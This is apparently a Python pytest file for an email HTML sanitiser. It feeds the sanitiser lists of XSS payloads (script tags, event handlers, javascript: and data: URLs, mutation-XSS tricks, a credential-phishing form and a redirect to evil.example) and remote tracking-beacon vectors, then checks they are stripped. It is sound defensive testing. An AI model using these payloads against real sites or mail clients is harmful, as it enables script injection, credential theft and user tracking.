"""What a stranger's HTML may be in front of staff: a table of attacks, a table of beacons, and what must survive."""

import re
import time
from html.parser import HTMLParser

import pytest

from mailgate.web.safe_html import MOST_LETTERS, as_document, is_showable, picture_kind

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="/t/MG-1" target="_top">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<style>@import "https://evil.example/x.css";</style>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>',
    '<div style="margin-top:-500px">over our note</div>',
    '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
    '<p class="our-note" id="main">No images were blocked.</p>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p/onclick=alert(1)>x",
    '"><img src=x onerror=alert(1)>',
    "</div></body></html><script>alert(1)</script>",
    "<img src=x:alert(1) onerror\x0b=alert(1)>",
    "<a\x0chref='javascript:alert(1)'>x</a>",
    "<s\0cript>alert(1)</s\0cript>",
]
BEACONS = [
    '<img src="https://evil.example/x.gif" width=1 height=1>',
    '<img src="//evil.example/x.gif">',
    '<img src="HTTP://evil.example/x.gif">',
    '<img src="x.gif">',
    '<img src="/static/keys.js">',
    '<img srcset="https://evil.example/x.gif 2x">',
    '<img src="ftp://evil.example/x">',
    '<table background="https://evil.example/x.gif"><tr><td>x</table>',
    '<td background="//evil.example/x.gif">x</td>',
    '<div style="background:url(https://evil.example/x.gif)">x</div>',
    '<div style="background-image:url(//evil.example/x.gif)">x</div>',
    '<div style="background:#fff u\\72l(https://evil.example/x.gif)">x</div>',
    "<div style=\"list-style-image:url('https://evil.example/x.gif')\">x</div>",
    '<div style="content:url(https://evil.example/x.gif);cursor:url(https://evil.example/x),auto">x</div>',
    '<div style="background:image-set(&quot;https://evil.example/x.gif&quot; 1x)">x</div>',
    '<div style="border-image:url(https://evil.example/x.gif)">x</div>',
    '<div style="font-family:a;src:url(https://evil.example/x)">x</div>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="preload" as="image" href="https://evil.example/x.gif">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<video poster="https://evil.example/x.gif" src="https://evil.example/x.mp4"></video>',
    '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    '<picture><source srcset="https://evil.example/x.webp"></picture>',
    '<input type="image" src="https://evil.example/x.gif">',
    '<svg><image href="https://evil.example/x.gif"/></svg>',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    '<iframe src="https://evil.example/"></iframe><frame src="https://evil.example/">',
    '<body background="https://evil.example/x.gif">x',
    '<bgsound src="https://evil.example/x.wav">',
    '<a href="https://fern.example/" ping="https://evil.example/ping">x</a>',
    "<style>@font-face{font-family:a;src:url(https://evil.example/x)}</style>",
]
_ALLOWED = re.compile(r"data:image/(?:png|jpeg|gif|webp|bmp);base64,")


def no_picture(_: str) -> bytes:
    return b""


def body_of(html: str) -> str:
    document = as_document(html, no_picture).document
    return document.partition('<body dir="auto">')[2]


class Look(HTMLParser):
    """Collects what a parser that is not the sanitiser's own finds."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.found: list[tuple[str, str, str]] = []
        self.links: list[dict[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag == "a":
            self.links.append({name: value or "" for name, value in attrs})
        self.found += [(tag, name, value or "") for name, value in attrs]


DANGEROUS = set(
    "script style svg math iframe object embed form input button base meta link template video audio title".split()
)


@pytest.mark.parametrize("html", ATTACKS + BEACONS)
def test_nothing_of_an_attack_is_left(html: str) -> None:
    body = body_of(html)
    look = Look(body)
    assert not look.tags & DANGEROUS
    for tag, name, value in look.found:
        assert not name.startswith("on")
        assert (tag, name) == ("p", "class") or name not in ("class", "id", "action", "srcset", "background", "ping")
        if name == "src":
            assert _ALLOWED.match(value)
        if name == "href":
            assert value.strip().lower().startswith(("https://", "http://", "mailto:", "tel:"))
        if name == "style":
            assert not re.search(r"url|\\|expression|import|position|image|:\s*-", value)
    assert "evil.example/x" not in body
    assert body.rstrip().endswith("</div></body></html>")
    assert body.count("</body>") == 1


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example/x.gif">',
        '<img src="//evil.example/x.gif" srcset="x.gif 2x">',
        '<img srcset="https://evil.example/x.gif 2x">',
        '<table background="https://evil.example/x.gif"><tr><td>x</table>',
        '<div style="background:URL( &quot;https://evil.example/x.gif&quot;)">x</div>',
        "<p style=\"background:image-set('https://evil.example/x.gif' 1x)\">x</p>",
    ],
)
def test_remote_pictures_are_counted(html: str) -> None:
    shown = as_document(html, no_picture)
    assert shown.blocked == 1
    assert "1 remote image was blocked." in shown.document


def test_the_note_is_ours_alone() -> None:
    shown = as_document('<p class="our-note">x</p>' + 3 * '<img src="https://evil.example/x">', no_picture)
    assert shown.document.count('class="our-note"') == 1
    assert "3 remote images were blocked." in shown.document
    assert 'class="our-note"' not in as_document("<p>Words</p>", no_picture).document


def test_what_mails_look_like_survives() -> None:
    html = (
        '<table width="600" bgcolor="#eeeeee"><tr><td align="center" style="padding: 4px;color:#333; BACKGROUND: #fff">'
        '<font face="Arial" size="2"><b>Order</b> <a href="https://fern.example/x?a=1&amp;b=2">17</a></font></td></tr>'
        '</table><ul><li dir="rtl">x</li></ul><pre>  y</pre><o:p>z</o:p><img alt="Logo" src="cid:a%40fern.example">'
    )
    document = as_document(html, lambda cid: PNG if cid == "a@fern.example" else b"").document
    for part in (
        'bgcolor="#eeeeee"',
        "padding:4px;color:#333;background-color:#fff",
        '<font face="Arial" size="2"><b>Order</b>',
        '<li dir="rtl">x</li>',
        "<pre>  y</pre>z",
        'alt="Logo"',
        'src="data:image/png;base64,iVBOR',
    ):
        assert part in document
    (link,) = [values for values in Look(document).links if "href" in values]
    assert link == {
        "href": "https://fern.example/x?a=1&b=2",
        "rel": "noopener noreferrer nofollow",
        "target": "_blank",
    }


@pytest.mark.parametrize("data", [b"", b"<svg onload=alert(1)>", b"%PDF-1.4", b"<html>", b"MZ", b"RIFF1234WAVE"])
def test_only_pictures_become_pictures_whatever_they_call_themselves(data: bytes) -> None:
    assert not picture_kind(data)
    shown = as_document('<img src="cid:x">', lambda _: data)
    assert "data:image" not in shown.document
    assert "Some images could not be shown." in shown.document


def test_a_picture_is_asked_for_once_and_all_together_are_bounded() -> None:
    asked: list[str] = []

    def image(cid: str) -> bytes:
        asked.append(cid)
        return PNG + b"\0" * 3_000_000

    document = as_document('<img src="cid:1"><img src="cid:1"><img src="cid:2"><img src="cid:3">', image).document
    assert asked == ["1", "2", "3"]
    assert document.count("data:image/png") == 3
    asked.clear()
    as_document("".join(f'<img src="cid:{number}">' for number in range(200)), image)
    assert len(asked) < 100


@pytest.mark.parametrize(
    "html",
    [
        "<p>" * 30_000,
        "<div>" * 600,
        "x" * (MOST_LETTERS + 1),
        "".join(f"<font size={size}>" for size in range(600)),
        "<font></b></i>" * 600,
        "a&" * 40_000,
    ],
)
def test_html_that_would_take_long_is_not_shown(html: str) -> None:
    assert not is_showable(html)


@pytest.mark.parametrize(
    "html", ["<p>x" * 9000, "<table><tr><td>x</table>" * 900, "<li>x<br>" * 900, "<div>x</div>" * 900, ""]
)
def test_everyday_html_is_shown(html: str) -> None:
    assert is_showable(html)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 500 + "x",
        '<b style="' + "color:red;" * 90_000 + '">x</b>',
        "<font size=1><table></font></table>" * 5000,
        "<img src='" + "a" * 900_000 + "'>",
        '<div style="color:rgb(' + "1" * 900_000 + '">x</div>',
        '<div style="font-family:' + "a " * 400_000 + '">x</div>',
        "a&" * 30_000 + "x" * 900_000,
    ],
)
def test_what_is_shown_takes_bounded_time(html: str) -> None:
    assert is_showable(html)
    started = time.process_time()
    as_document(html, no_picture)
    assert time.process_time() - started < 1.5
